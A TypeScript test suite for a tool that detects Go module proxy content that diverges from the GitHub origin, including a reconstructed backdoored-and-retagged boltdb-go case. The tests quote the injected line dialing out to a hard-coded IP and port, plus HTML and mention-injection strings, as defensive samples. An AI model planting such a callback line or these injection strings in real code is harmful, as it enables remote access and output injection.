import { divergenceFindings, verifyModule, type VerifyDeps, type VerifyResult } from '../../../src/checks/divergence/verify.js';
import type { Finding } from '../../../src/findings.js';
import type { RequirementChange } from '../../../src/gomod/types.js';
import { hashGoMod } from '../../../src/modzip/hash.js';
import { readGoEnv } from '../../../src/sources/goenv.js';
import { GoProxyClient } from '../../../src/sources/goproxy.js';
import { HttpClient } from '../../../src/sources/http.js';
import { fakeSha, makeCommit, makeRepo, type FakeRepo } from '../../helpers/github-server.js';
import type { FaultAction, FixtureModule } from '../../helpers/goproxy-server.js';
import { boltdbFixture, startWorld, type World } from '../../helpers/divergence-world.js';

const BOLT = 'github.com/boltdb-go/bolt';
const { clean, injected } = boltdbFixture();
// The attack: the backdoored commit was tagged first and cached by the proxy; the tag then moved to clean code.
const evilCommit = makeCommit({ ...clean, ...injected }, '2021-11-10T08:00:00Z', 'v1.3.1');
const cleanCommit = makeCommit(clean, '2021-11-12T09:30:00Z', 'v1.3.1 (retagged)');

function boltRepo(tagAt: string): FakeRepo {
  const repo = makeRepo('boltdb-go', 'bolt', [evilCommit, cleanCommit], 77);
  repo.tags['v1.3.1'] = { commit: tagAt };
  return repo;
}

function boltModule(withOrigin: boolean): FixtureModule {
  return {
    path: BOLT,
    version: 'v1.3.1',
    files: { ...clean, ...injected },
    info: {
      Time: evilCommit.committerDate,
      ...(withOrigin ? { Origin: { VCS: 'git', URL: 'https://github.com/boltdb-go/bolt', Ref: 'refs/tags/v1.3.1', Hash: evilCommit.sha } } : {}),
    },
  };
}

let world: World | undefined;
afterEach(async () => {
  await world?.close();
  world = undefined;
});

async function verify(modules: FixtureModule[], repos: Record<string, FakeRepo>, mv: { path: string; version: string }, extra: Partial<VerifyDeps> = {}, opts: Parameters<typeof startWorld>[2] = {}): Promise<VerifyResult> {
  world = await startWorld(modules, repos, opts);
  return verifyModule(mv, { proxy: world.proxy, origin: world.origin, ...extra });
}

describe('the boltdb-go story, end to end', () => {
  it('finds content-diverged and tag-moved, names the injected file and shows its code', async () => {
    const r = await verify([boltModule(true)], { 'boltdb-go/bolt': boltRepo(cleanCommit.sha) }, { path: BOLT, version: 'v1.3.1' });
    expect(r.verdict).toBe('content-diverged');
    expect(r.verdicts).toEqual(['content-diverged', 'tag-moved']);
    expect(r.files).toEqual({ added: ['db_init.go'], removed: [], modified: [] });
    expect(r.proxy.origin).toEqual({ VCS: 'git', URL: 'https://github.com/boltdb-go/bolt', Ref: 'refs/tags/v1.3.1', Hash: evilCommit.sha });
    expect(r.origin).toMatchObject({ repo: 'boltdb-go/bolt', commit: cleanCommit.sha, tag: 'v1.3.1', annotated: false });
    expect(r.origin.h1).toMatch(/^h1:/);
    expect(r.origin.h1).not.toBe(r.proxy.h1);
    expect(r.diffs?.[0].path).toBe('db_init.go');
    expect(r.diffs?.[0].diff).toContain('+++ proxy/db_init.go');
    expect(r.diffs?.[0].diff).toContain('+\t\t\tc, err := net.Dial("tcp", "49.12.198.231:20022")');
    expect(r.rewrittenAfterProxy).toBe(true);
    expect(r.reasons.join('\n')).toMatch(/tag rewritten after the proxy cached the version/);
    expect(r.reasons.join('\n')).toMatch(new RegExp(`points at commit ${cleanCommit.sha.slice(0, 12)} today, but the proxy recorded commit ${evilCommit.sha.slice(0, 12)}`));
  });

  it('finds content-diverged by content alone when the proxy recorded no Origin and the dates were forged', async () => {
    // Committer dates are whatever the attacker says: a clean commit backdated before the cached one.
    const backdated = makeCommit(clean, '2021-11-09T00:00:00Z', 'backdated');
    const repo = makeRepo('boltdb-go', 'bolt', [evilCommit, backdated], 78);
    repo.tags['v1.3.1'] = { commit: backdated.sha };
    const r = await verify([boltModule(false)], { 'boltdb-go/bolt': repo }, { path: BOLT, version: 'v1.3.1' });
    expect(r.verdicts).toEqual(['content-diverged']);
    expect(r.files.added).toEqual(['db_init.go']);
    expect(r.proxy.origin).toBeNull();
    expect(r.reasons.join('\n')).toMatch(/recorded no origin commit/);
  });

  it('infers the moved tag from dates when the proxy recorded a Time but no Origin', async () => {
    const r = await verify([boltModule(false)], { 'boltdb-go/bolt': boltRepo(cleanCommit.sha) }, { path: BOLT, version: 'v1.3.1' });
    expect(r.verdicts).toEqual(['content-diverged', 'tag-moved']);
    expect(r.reasons.join('\n')).toMatch(/tag rewritten after the proxy cached the version: tag v1\.3\.1 names a commit dated 2021-11-12T09:30:00Z.*inferred from dates/);
  });

  it('says consistent while the tag still points at what the proxy cached', async () => {
    const r = await verify([boltModule(true)], { 'boltdb-go/bolt': boltRepo(evilCommit.sha) }, { path: BOLT, version: 'v1.3.1' });
    expect(r.verdict).toBe('consistent');
    expect(r.verdicts).toEqual(['consistent']);
    expect(r.origin.h1).toBe(r.proxy.h1);
    expect(r.origin.goModH1).toBe(r.proxy.goModH1);
  });

  it('turns the result into findings a reviewer can act on', async () => {
    const r = await verify([boltModule(true)], { 'boltdb-go/bolt': boltRepo(cleanCommit.sha) }, { path: BOLT, version: 'v1.3.1' });
    const change: RequirementChange = {
      goModPath: 'go.mod',
      module: BOLT,
      kind: 'added',
      from: null,
      to: 'v1.3.1',
      line: 7,
      indirect: false,
      replacement: null,
      fetch: { path: BOLT, version: 'v1.3.1' },
    };
    const findings = divergenceFindings(change, r);
    // Retag triage: the proxy's copy adds an init() dialing out, so the moved tag is suspicious, not a re-tag.
    expect(r.triage?.kind).toBe('suspicious');
    expect(r.triage?.shapes.map((x) => x.shape)).toEqual(expect.arrayContaining(['init', 'import', 'new-go-file']));
    expect(findings.map((f) => [f.rule, f.severity])).toEqual([
      ['content-diverged', 'critical'],
      ['tag-moved', 'critical'],
    ]);
    expect(findings[1].message).toContain('Triage: suspicious');
    const [content, moved] = findings;
    expect(content).toMatchObject({ module: BOLT, version: 'v1.3.1', goModPath: 'go.mod', line: 7 });
    expect(content.title).toBe('The proxy serves different code for `github.com/boltdb-go/bolt@v1.3.1` than `github.com/boltdb-go/bolt` holds at tag `v1.3.1`');
    expect(content.message).toContain('Only in the proxy: `db_init.go`.');
    // The diff is evidence for the renderer to fence, never hand-fenced into the message.
    expect(content.message).not.toContain('```');
    expect(content.message).not.toContain('net.Dial');
    expect(content.evidence).toMatchObject({
      files: { added: ['db_init.go'], removed: [], modified: [] },
      proxy: { h1: r.proxy.h1, origin: { Hash: evilCommit.sha } },
      origin: { repo: 'boltdb-go/bolt', tag: 'v1.3.1', h1: r.origin.h1, commit: cleanCommit.sha, commitDate: cleanCommit.committerDate },
      diffs: [{ path: 'db_init.go' }],
    });
    expect((content.evidence.diffs as { diff: string }[])[0]!.diff).toContain('net.Dial("tcp", "49.12.198.231:20022")');
    expect(moved.title).toBe('Tag `v1.3.1` of `github.com/boltdb-go/bolt` moved after the proxy cached `github.com/boltdb-go/bolt@v1.3.1`');
    expect(moved.message).toContain(
      `The proxy cached commit \`${evilCommit.sha.slice(0, 12)}\`; the tag now names commit \`${cleanCommit.sha.slice(0, 12)}\`, dated \`${cleanCommit.committerDate}\`, after the proxy cached it. ` +
        'Ask the maintainers why it moved before depending on this version. Triage: suspicious.',
    );
    expect(content.message).toContain('Triage: suspicious: ');
    expect(content.message).toContain('shares no history with the recorded commit');
    // One evidence object for the module, shown once by the renderer; no sentence said twice.
    expect(moved.evidence).toBe(content.evidence);
    expectNoRepeatedSentence(findings);
    for (const f of findings) expect(f.title).not.toContain('\n');
  });
});

/** No sentence appears in two findings of one module (titles and messages). */
function expectNoRepeatedSentence(findings: Finding[]): void {
  const seen = new Map<string, string>();
  for (const f of findings) {
    for (const sentence of `${f.title}. ${f.message}`.split(/(?<=[.:])\s+/).map((x) => x.trim()).filter((x) => x.length > 20)) {
      expect(seen.get(sentence) ?? f.rule).toBe(f.rule);
      seen.set(sentence, f.rule);
    }
  }
}

describe('verifyModule: tags and versions', () => {
  const files = { 'go.mod': 'module github.com/o/r\n\ngo 1.21\n', 'r.go': 'package r\n' };
  const c = makeCommit(files, '2024-05-01T10:00:00Z');
  const mod = (over: Partial<FixtureModule> = {}): FixtureModule => ({ path: 'github.com/o/r', version: 'v1.0.0', files, info: { Time: c.committerDate }, ...over });

  it('dereferences an annotated tag and reports its date', async () => {
    const repo = makeRepo('o', 'r', [c]);
    repo.tags['v1.0.0'] = { commit: c.sha, annotated: { sha: fakeSha('tag', 'v1.0.0'), taggerDate: '2024-05-02T00:00:00Z' } };
    const r = await verify([mod({ info: { Time: c.committerDate, Origin: { VCS: 'git', URL: 'https://github.com/o/r', Hash: c.sha } } })], { 'o/r': repo }, { path: 'github.com/o/r', version: 'v1.0.0' });
    expect(r.verdict).toBe('consistent');
    expect(r.origin).toMatchObject({ commit: c.sha, annotated: true, tagDate: '2024-05-02T00:00:00Z', commitDate: c.committerDate });
    // An annotated tag made after the commit is normal; only a moved tag's date counts as rewrite evidence.
    expect(r.rewrittenAfterProxy).toBeUndefined();
  });

  it('reports tag-moved even when the new commit has the same content', async () => {
    const same = makeCommit(files, '2024-06-01T00:00:00Z', 'empty re-tag');
    const repo = makeRepo('o', 'r', [c, same]);
    repo.tags['v1.0.0'] = { commit: same.sha };
    const r = await verify([mod({ info: { Time: c.committerDate, Origin: { Hash: c.sha, URL: 'https://github.com/o/r', VCS: 'git' } } })], { 'o/r': repo }, { path: 'github.com/o/r', version: 'v1.0.0' });
    expect(r.verdicts).toEqual(['tag-moved']);
    expect(r.origin.h1).toBe(r.proxy.h1);
  });

  it('reports tag-missing when the tag was deleted, and still compares the recorded commit', async () => {
    const repo = makeRepo('o', 'r', [c]);
    const r = await verify([mod({ info: { Time: c.committerDate, Origin: { Hash: c.sha } } })], { 'o/r': repo }, { path: 'github.com/o/r', version: 'v1.0.0' });
    expect(r.verdicts).toEqual(['tag-missing']);
    expect(r.origin.commit).toBe(c.sha);
    expect(r.origin.h1).toBe(r.proxy.h1);
    expect(r.reasons.join('\n')).toMatch(/tag v1\.0\.0 no longer exists/);
  });

  it('reports tag-missing without anything to compare when no Origin was recorded', async () => {
    const r = await verify([mod()], { 'o/r': makeRepo('o', 'r', [c]) }, { path: 'github.com/o/r', version: 'v1.0.0' });
    expect(r.verdicts).toEqual(['tag-missing']);
    expect(r.origin.h1).toBeNull();
  });

  it('resolves a pseudo-version to its commit', async () => {
    const version = `v0.0.0-20240501100000-${c.sha.slice(0, 12)}`;
    const r = await verify([mod({ version, info: undefined })], { 'o/r': makeRepo('o', 'r', [c]) }, { path: 'github.com/o/r', version });
    expect(r.verdict).toBe('consistent');
    expect(r.origin).toMatchObject({ commit: c.sha, tag: null });
    expect(world!.gh.requests.map((q) => q.path)).toContain(`/repos/o/r/commits/${c.sha.slice(0, 12)}`);
  });

  it('reports a pseudo-version whose commit is gone as tag-missing', async () => {
    const version = 'v0.0.0-20240501100000-0123456789ab';
    const r = await verify([mod({ version, info: undefined })], { 'o/r': makeRepo('o', 'r', [c]) }, { path: 'github.com/o/r', version });
    expect(r.verdicts).toEqual(['tag-missing']);
    expect(r.reasons.join('\n')).toMatch(/commit 0123456789ab named by pseudo-version/);
  });

  it('finds a sub-directory module through its dir/vX.Y.Z tag, with the root LICENSE copied in', async () => {
    const tree = {
      'go.mod': 'module github.com/o/mono\n',
      LICENSE: 'root license\n',
      'main.go': 'package mono\n',
      'sub/dir/go.mod': 'module github.com/o/mono/sub/dir\n',
      'sub/dir/x.go': 'package dir\n',
      'sub/dir/internal/y.go': 'package internal\n',
      'other/z.go': 'package other\n',
    };
    const commit = makeCommit(tree, '2024-01-01T00:00:00Z');
    const repo = makeRepo('o', 'mono', [commit]);
    repo.tags['sub/dir/v1.2.3'] = { commit: commit.sha };
    repo.tags['v1.2.3'] = { commit: fakeSha('unrelated') };
    const proxyFiles = { 'go.mod': tree['sub/dir/go.mod'], 'x.go': tree['sub/dir/x.go'], 'internal/y.go': tree['sub/dir/internal/y.go'], LICENSE: tree.LICENSE };
    const r = await verify([{ path: 'github.com/o/mono/sub/dir', version: 'v1.2.3', files: proxyFiles, info: { Time: commit.committerDate } }], { 'o/mono': repo }, { path: 'github.com/o/mono/sub/dir', version: 'v1.2.3' });
    expect(r.verdict).toBe('consistent');
    expect(r.origin.tag).toBe('sub/dir/v1.2.3');
  });

  it('finds a /v2 module in its major-version subdirectory', async () => {
    const tree = {
      'go.mod': 'module github.com/o/r\n',
      'a.go': 'package r // v1\n',
      LICENSE: 'MIT\n',
      'v2/go.mod': 'module github.com/o/r/v2\n\ngo 1.20\n',
      'v2/a.go': 'package r // v2\n',
    };
    const commit = makeCommit(tree, '2024-01-01T00:00:00Z');
    const repo = makeRepo('o', 'r', [commit]);
    repo.tags['v2.1.0'] = { commit: commit.sha };
    const proxyFiles = { 'go.mod': tree['v2/go.mod'], 'a.go': tree['v2/a.go'], LICENSE: 'MIT\n' };
    const r = await verify([{ path: 'github.com/o/r/v2', version: 'v2.1.0', files: proxyFiles, info: { Time: commit.committerDate } }], { 'o/r': repo }, { path: 'github.com/o/r/v2', version: 'v2.1.0' });
    expect(r.verdict).toBe('consistent');
    expect(r.origin.tag).toBe('v2.1.0');
  });

  it('finds a /v2 module whose go.mod is at the repository root (major branch layout)', async () => {
    const tree = { 'go.mod': 'module github.com/o/r/v2\n', 'a.go': 'package r\n' };
    const commit = makeCommit(tree, '2024-01-01T00:00:00Z');
    const repo = makeRepo('o', 'r', [commit]);
    repo.tags['v2.0.0'] = { commit: commit.sha };
    const r = await verify([{ path: 'github.com/o/r/v2', version: 'v2.0.0', files: tree, info: { Time: commit.committerDate } }], { 'o/r': repo }, { path: 'github.com/o/r/v2', version: 'v2.0.0' });
    expect(r.verdict).toBe('consistent');
  });

  it('handles +incompatible (tag without the suffix, no go.mod, synthetic .mod)', async () => {
    const tree = { 'inc.go': 'package inc\n', 'README.md': '# inc\n' };
    const commit = makeCommit(tree, '2019-01-01T00:00:00Z');
    const repo = makeRepo('o', 'inc', [commit]);
    repo.tags['v3.0.0'] = { commit: commit.sha };
    const r = await verify([{ path: 'github.com/o/inc', version: 'v3.0.0+incompatible', files: tree, info: { Time: commit.committerDate } }], { 'o/inc': repo }, { path: 'github.com/o/inc', version: 'v3.0.0+incompatible' });
    expect(r.verdict).toBe('consistent');
    expect(r.origin.tag).toBe('v3.0.0');
    expect(r.proxy.goModH1).toBe(hashGoMod('module github.com/o/inc\n'));
    expect(r.origin.goModH1).toBe(r.proxy.goModH1);
  });

  it('handles a module without go.mod', async () => {
    const tree = { 'old.go': 'package old\n' };
    const commit = makeCommit(tree, '2018-01-01T00:00:00Z');
    const repo = makeRepo('o', 'old', [commit]);
    repo.tags['v1.0.0'] = { commit: commit.sha };
    const r = await verify([{ path: 'github.com/o/old', version: 'v1.0.0', files: tree, info: { Time: commit.committerDate } }], { 'o/old': repo }, { path: 'github.com/o/old', version: 'v1.0.0' });
    expect(r.verdict).toBe('consistent');
    expect(r.origin.goModH1).toBe(hashGoMod('module github.com/o/old\n'));
  });

  it('checks a gopkg.in module against the GitHub repository gopkg.in redirects to', async () => {
    const tree = { 'go.mod': 'module gopkg.in/yaml.v3\n', 'yaml.go': 'package yaml\n' };
    const commit = makeCommit(tree, '2022-05-27T08:00:00Z');
    const repo = makeRepo('go-yaml', 'yaml', [commit]);
    repo.tags['v3.0.1'] = { commit: commit.sha };
    const r = await verify([{ path: 'gopkg.in/yaml.v3', version: 'v3.0.1', files: tree, info: { Time: commit.committerDate } }], { 'go-yaml/yaml': repo }, { path: 'gopkg.in/yaml.v3', version: 'v3.0.1' });
    expect(r.verdict).toBe('consistent');
    expect(r.origin).toMatchObject({ repo: 'go-yaml/yaml', tag: 'v3.0.1', commit: commit.sha });
  });

  it('reports a changed file with a diff and a removed file', async () => {
    const origin = { 'go.mod': 'module github.com/o/r\n', 'a.go': 'package r\n\nfunc A() int { return 1 }\n', 'gone.go': 'package r\n' };
    const served = { 'go.mod': origin['go.mod'], 'a.go': 'package r\n\nfunc A() int { return 2 }\n' };
    const commit = makeCommit(origin, '2024-01-01T00:00:00Z');
    const repo = makeRepo('o', 'r', [commit]);
    repo.tags['v1.0.0'] = { commit: commit.sha };
    const r = await verify([{ path: 'github.com/o/r', version: 'v1.0.0', files: served, info: { Time: commit.committerDate } }], { 'o/r': repo }, { path: 'github.com/o/r', version: 'v1.0.0' });
    expect(r.verdicts).toEqual(['content-diverged']);
    expect(r.files).toEqual({ added: [], removed: ['gone.go'], modified: ['a.go'] });
    expect(r.diffs?.map((d) => d.path)).toEqual(['a.go', 'gone.go']);
    expect(r.diffs?.[0].diff).toContain('-func A() int { return 1 }\n+func A() int { return 2 }');
  });
});

describe('verifyModule: what a reviewer is shown', () => {
  const mv = { path: 'github.com/o/bin', version: 'v1.0.0' };
  async function diverged(origin: Record<string, string | Buffer>, served: Record<string, string | Buffer>, extra: Partial<VerifyDeps> = {}) {
    const commit = makeCommit(origin, '2024-01-01T00:00:00Z');
    const repo = makeRepo('o', 'bin', [commit]);
    repo.tags['v1.0.0'] = { commit: commit.sha };
    return verify([{ ...mv, files: served, info: { Time: commit.committerDate } }], { 'o/bin': repo }, mv, extra);
  }

  it('names a differing binary file and does not diff it', async () => {
    const goMod = 'module github.com/o/bin\n';
    const r = await diverged({ 'go.mod': goMod, 'data.bin': Buffer.from([1, 0, 2, 3]) }, { 'go.mod': goMod, 'data.bin': Buffer.from([1, 0, 2, 4]) });
    expect(r.verdicts).toEqual(['content-diverged']);
    expect(r.files.modified).toEqual(['data.bin']);
    expect(r.binary).toEqual(['data.bin']);
    expect(r.diffs).toBeUndefined();
    const change: RequirementChange = { goModPath: 'go.mod', module: mv.path, kind: 'added', from: null, to: mv.version, line: 3, indirect: false, replacement: null, fetch: mv };
    expect(divergenceFindings(change, r)[0]!.message).toContain('Binary, so not diffed: `data.bin`.');
  });

  it('keeps a hostile pair of files from making the diff quadratic, and still lists the file', async () => {
    const goMod = 'module github.com/o/bin\n';
    const lines = (tag: string) => Array.from({ length: 4000 }, (_, i) => `// ${tag} ${i}`).join('\n') + '\n';
    const r = await diverged({ 'go.mod': goMod, 'x.go': lines('a') }, { 'go.mod': goMod, 'x.go': lines('b'), 'new.go': 'package bin\n' }, { maxDiffFileBytes: 1 << 20 });
    expect(r.files).toEqual({ added: ['new.go'], removed: [], modified: ['x.go'] });
    // Every line differs: beyond the bounded edit length, so no diff for x.go; the added file is still shown.
    expect(r.diffs?.map((d) => d.path)).toEqual(['new.go']);
  });

  it('puts file names from the zip into code spans, whatever they hold', async () => {
    const goMod = 'module github.com/o/bin\n';
    // Go allows spaces, @ and # in file names: a mention or an issue link in waiting.
    const r = await diverged({ 'go.mod': goMod }, { 'go.mod': goMod, 'cc @acme/security #1.go': 'package bin\n' });
    const change: RequirementChange = { goModPath: 'go.mod', module: mv.path, kind: 'added', from: null, to: mv.version, line: 3, indirect: false, replacement: null, fetch: mv };
    expect(divergenceFindings(change, r)[0]!.message).toContain('Only in the proxy: `cc @acme/security #1.go`.');
  });
});

describe('verifyModule: a real consistency check', () => {
  it('hashes the origin tree to exactly the proxy h1, applying Go’s file rules to what git archive holds', async () => {
    // golang/mod zip/testdata/create/simple.txt: h1:tpqYOOmuilagXzyqoJ3roUjp8gneQeTv5YVpL6BG7/k=
    const moduleFiles = {
      'go.mod': 'module example.com/m\n\ngo 1.13\n',
      'm.go': 'package m\n\nfunc Foo() int { return 42 }\n',
      'cmd/hello/hello.go': 'package main\n\nimport (\n  "fmt"\n  "example.com/m"\n)\n\nfunc main() {\n  fmt.Println(m.Foo())\n}\n',
    };
    // The repository holds more than the module: a nested module, vendored code, a symlink, .hg_archival.txt.
    const repoTree = {
      ...moduleFiles,
      'tools/go.mod': 'module example.com/m/tools\n',
      'tools/tool.go': 'package tools\n',
      'vendor/example.org/dep/dep.go': 'package dep\n',
      '.hg_archival.txt': 'repo: x\n',
      'link.go': { symlink: 'm.go' },
    };
    const commit = makeCommit(repoTree, '2020-01-02T17:33:45Z');
    const repo = makeRepo('ex', 'm', [commit]);
    repo.tags['v1.0.0'] = { commit: commit.sha };
    const r = await verify(
      [{ path: 'example.com/m', version: 'v1.0.0', files: moduleFiles, info: { Time: commit.committerDate, Origin: { VCS: 'git', URL: 'https://github.com/ex/m', Ref: 'refs/tags/v1.0.0', Hash: commit.sha } } }],
      { 'ex/m': repo },
      { path: 'example.com/m', version: 'v1.0.0' },
    );
    expect(r.proxy.h1).toBe('h1:tpqYOOmuilagXzyqoJ3roUjp8gneQeTv5YVpL6BG7/k=');
    expect(r.origin.h1).toBe('h1:tpqYOOmuilagXzyqoJ3roUjp8gneQeTv5YVpL6BG7/k=');
    expect(r.proxy.goModH1).toBe('h1:UWkIka9t4wTRf5TZ+sRdwnADRAp+U7R9A2lAeNEx1cA=');
    expect(r.origin.goModH1).toBe(r.proxy.goModH1);
    expect(r.verdict).toBe('consistent');
    expect(r.files).toEqual({ added: [], removed: [], modified: [] });
  });
});

describe("verifyModule: GitHub tarballs apply .gitattributes export rules, the go command does not", () => {
  const tree = {
    '.gitattributes': 'testdata/** export-ignore\n/internal_test.go export-ignore\nversion.go export-subst\n',
    'go.mod': 'module github.com/o/attrs\n',
    'a.go': 'package attrs\n',
    'version.go': 'package attrs\n\nconst Commit = "$Format:%H$"\n',
    'internal_test.go': 'package attrs\n',
    'testdata/golden.json': '{"ok":true}\n',
  };
  const commit = makeCommit(tree, '2024-01-01T00:00:00Z');
  const repo = () => {
    const r = makeRepo('o', 'attrs', [commit]);
    r.tags['v1.0.0'] = { commit: commit.sha };
    return r;
  };
  const mv = { path: 'github.com/o/attrs', version: 'v1.0.0' };
  const info = { Time: commit.committerDate };

  it('confirms export-ignored and export-subst files against the git tree and stays consistent', async () => {
    const r = await verify([{ ...mv, files: tree, info }], { 'o/attrs': repo() }, mv);
    expect(r.verdict).toBe('consistent');
    expect(r.origin.h1).toBe(r.proxy.h1);
    expect(r.reasons.join('\n')).toMatch(/3 file\(s\) that GitHub's tarball leaves out or rewrites .* internal_test\.go, testdata\/golden\.json, version\.go/);
    expect(world!.gh.requests.map((q) => q.path)).toContain(`/repos/o/attrs/git/trees/${commit.sha}`);
  });

  it('still reports a file that is in neither the tarball nor the git tree', async () => {
    const r = await verify([{ ...mv, files: { ...tree, 'evil.go': 'package attrs\n\nfunc init() {}\n' }, info }], { 'o/attrs': repo() }, mv);
    expect(r.verdicts).toEqual(['content-diverged']);
    expect(r.files).toEqual({ added: ['evil.go'], removed: [], modified: [] });
    expect(r.origin.h1).not.toBe(r.proxy.h1);
  });

  it('does not accept a proxy file whose bytes differ from the committed blob', async () => {
    const r = await verify([{ ...mv, files: { ...tree, 'testdata/golden.json': '{"ok":false}\n' }, info }], { 'o/attrs': repo() }, mv);
    expect(r.verdicts).toEqual(['content-diverged']);
    expect(r.files.added).toEqual(['testdata/golden.json']);
  });
});

describe('verifyModule: origin failures', () => {
  const files = { 'go.mod': 'module github.com/o/r\n', 'r.go': 'package r\n' };
  const c = makeCommit(files, '2024-05-01T10:00:00Z');
  const taggedRepo = () => {
    const repo = makeRepo('o', 'r', [c], 9001);
    repo.tags['v1.0.0'] = { commit: c.sha };
    return repo;
  };
  const mv = { path: 'github.com/o/r', version: 'v1.0.0' };
  const served: FixtureModule = { path: mv.path, version: mv.version, files, info: { Time: c.committerDate } };

  it('follows a renamed repository (301) and says so', async () => {
    const repo = taggedRepo();
    repo.owner = 'new-owner';
    repo.name = 'new-name';
    const r = await verify([served], { 'new-owner/new-name': repo }, mv, {}, { github: { renames: { 'o/r': 'new-owner/new-name' } } });
    expect(r.verdict).toBe('consistent');
    expect(r.origin).toMatchObject({ repo: 'new-owner/new-name', movedFrom: 'o/r' });
    expect(r.reasons.join('\n')).toMatch(/GitHub redirects o\/r to new-owner\/new-name/);
  });

  it('reports a deleted origin repository as tag-missing', async () => {
    const r = await verify([served], {}, mv);
    expect(r.verdicts).toEqual(['tag-missing']);
    expect(r.reasons.join('\n')).toMatch(/github\.com\/o\/r no longer exists/);
  });

  it.each([
    [403, { status: 403 as const, resetEpochSeconds: 2_000_000_000 }, '2033-05-18T03:33:20.000Z'],
    [429, { status: 429 as const, retryAfterSeconds: 60 }, null],
  ])('fails verification on a GitHub rate limit (%i) that does not clear', async (_status, rateLimit, resetIso) => {
    const r = await verify([served], { 'o/r': taggedRepo() }, mv, {}, { github: { rateLimit } });
    expect(r.verdicts).toEqual(['verify-failed']);
    expect(r.cause).toMatchObject({ kind: 'rate-limited', source: 'origin' });
    expect(r.reasons.join('\n')).toMatch(/rate limit reached.*resets at/);
    if (resetIso) expect(r.cause!.detail).toContain(resetIso);
  });

  it('fails verification when the origin tarball is larger than the cap', async () => {
    const r = await verify([served], { 'o/r': taggedRepo() }, mv, {}, { maxTarballBytes: 64 });
    expect(r.verdicts).toEqual(['verify-failed']);
    expect(r.cause).toMatchObject({ kind: 'too-large', source: 'origin' });
    expect(r.origin.commit).toBe(c.sha);
    expect(r.origin.h1).toBeNull();
  });

  it('keeps tag-moved, and its dates, when the content then cannot be compared', async () => {
    const other = makeCommit({ ...files, 'new.go': 'package r\n' }, '2024-06-01T00:00:00Z');
    const repo = taggedRepo();
    repo.commits[other.sha] = other;
    repo.tags['v1.0.0'] = { commit: other.sha };
    const r = await verify([{ ...served, info: { Time: c.committerDate, Origin: { Hash: c.sha } } }], { 'o/r': repo }, mv, {}, { maxTarballBytes: 64 });
    expect(r.verdict).toBe('tag-moved');
    expect(r.verdicts).toEqual(['tag-moved', 'verify-failed']);
    expect(r.rewrittenAfterProxy).toBe(true);
    // The content was never compared: both findings stand, so lowering tag-moved cannot let it pass.
    const change: RequirementChange = { goModPath: 'go.mod', module: mv.path, kind: 'added', from: null, to: mv.version, line: 3, indirect: false, replacement: null, fetch: mv };
    expect(divergenceFindings(change, r).map((f) => [f.rule, f.severity])).toEqual([
      ['tag-moved', 'high'],
      ['verify-failed', 'high'],
    ]);
  });

  it('fails verification, without crashing, when GitHub cannot be reached', async () => {
    world = await startWorld([served], { 'o/r': taggedRepo() });
    await world.gh.close();
    const r = await verifyModule(mv, { proxy: world.proxy, origin: world.origin });
    expect(r.verdicts).toEqual(['verify-failed']);
    expect(r.cause).toMatchObject({ kind: 'network', source: 'origin' });
    world.gh.close = async () => undefined;
  });

  it('is unverifiable (not a failure) for a non-GitHub origin', async () => {
    const r = await verify([{ path: 'gitlab.com/g/p', version: 'v1.0.0', files: { 'go.mod': 'module gitlab.com/g/p\n' } }], {}, { path: 'gitlab.com/g/p', version: 'v1.0.0' });
    expect(r.verdicts).toEqual(['unverifiable']);
    expect(r.cause).toMatchObject({ kind: 'not-github', source: 'origin' });
    expect(r.reasons[0]).toMatch(/gitlab\.com, not github\.com/);
  });

  it('is unverifiable when origin checks are off, even if the checksums agree', async () => {
    world = await startWorld([served], {});
    const r = await verifyModule(mv, { proxy: world.proxy, origin: null });
    expect(r.verdicts).toEqual(['unverifiable']);
    expect(r.cause?.kind).toBe('no-origin-client');
  });
});

describe('verifyModule: proxy answers and checksums', () => {
  const files = { 'go.mod': 'module github.com/o/r\n', 'r.go': 'package r\n' };
  const c = makeCommit(files, '2024-05-01T10:00:00Z');
  const repo = () => {
    const r = makeRepo('o', 'r', [c]);
    r.tags['v1.0.0'] = { commit: c.sha };
    return r;
  };
  const mv = { path: 'github.com/o/r', version: 'v1.0.0' };

  it('reports proxy-blocked for a 403 that says the module is malicious, with the reason on one line', async () => {
    const r = await verify([{ ...mv, files, blocked: 'module github.com/o/r@v1.0.0 has been blocked: it contains malicious code\n<img src=x>' }], { 'o/r': repo() }, mv);
    expect(r.verdicts).toEqual(['proxy-blocked']);
    expect(r.reasons[0]).toMatch(/refuses to serve.*malicious/);
    // The body is flattened to one bounded line of plain text; the renderer makes it inert where it is posted.
    expect(r.proxy.blocked).toBe('module github.com/o/r@v1.0.0 has been blocked: it contains malicious code <img src=x>');
  });

  it('does not call a rate-limit 403 from the proxy proxy-blocked', async () => {
    const r = await verify([{ ...mv, files, blocked: 'rate limit exceeded, slow down' }], { 'o/r': repo() }, mv);
    expect(r.verdicts).toEqual(['verify-failed']);
    expect(r.cause).toMatchObject({ kind: 'rate-limited', source: 'proxy' });
  });

  it('is unverifiable for a private module (GOPRIVATE), without contacting the proxy', async () => {
    const r = await verify([{ ...mv, files, info: { Time: c.committerDate } }], { 'o/r': repo() }, mv, {}, { env: { GOPRIVATE: 'github.com/o/*' } });
    expect(r.verdicts).toEqual(['unverifiable']);
    expect(r.cause).toMatchObject({ kind: 'private', detail: 'matches GOPRIVATE=github.com/o/*' });
    expect(world!.proxyServer.requests).toEqual([]);
  });

  it('is unverifiable when GOPROXY sends the module to "direct" (no version control fetching)', async () => {
    const r = await verify([], { 'o/r': repo() }, mv, {}, { env: { GOPROXY: 'direct' } });
    expect(r.verdicts).toEqual(['unverifiable']);
    expect(r.cause?.kind).toBe('no-proxy');
  });

  // Each fault the go command would refuse to build with: the content is never compared, so never consistent.
  const faults: [string, FaultAction, string, RegExp][] = [
    ['a 500 on the zip', { kind: 'status', status: 500, body: 'internal error' }, 'server-error', /500/],
    ['a reset connection', { kind: 'reset' }, 'network', /./],
    ['a truncated body', { kind: 'truncate', bytes: 10 }, 'network', /body|Content-Length/],
    ['a 404 on the zip', { kind: 'status', status: 404, body: 'not found' }, 'not-found', /404/],
    ['a 403 that is not a block', { kind: 'status', status: 403, body: 'forbidden by policy' }, 'forbidden', /403/],
    ['a 429', { kind: 'status', status: 429, body: 'too many requests' }, 'rate-limited', /429/],
  ];
  it.each(faults)('fails verification on %s', async (_name, action, kind, detail) => {
    const r = await verify([{ ...mv, files, info: { Time: c.committerDate } }], { 'o/r': repo() }, mv, {}, { proxyFaults: (q) => (q.endpoint === 'zip' ? action : undefined) });
    expect(r.verdicts).toEqual(['verify-failed']);
    expect(r.cause).toMatchObject({ kind, source: 'proxy' });
    expect(r.cause!.detail).toMatch(detail);
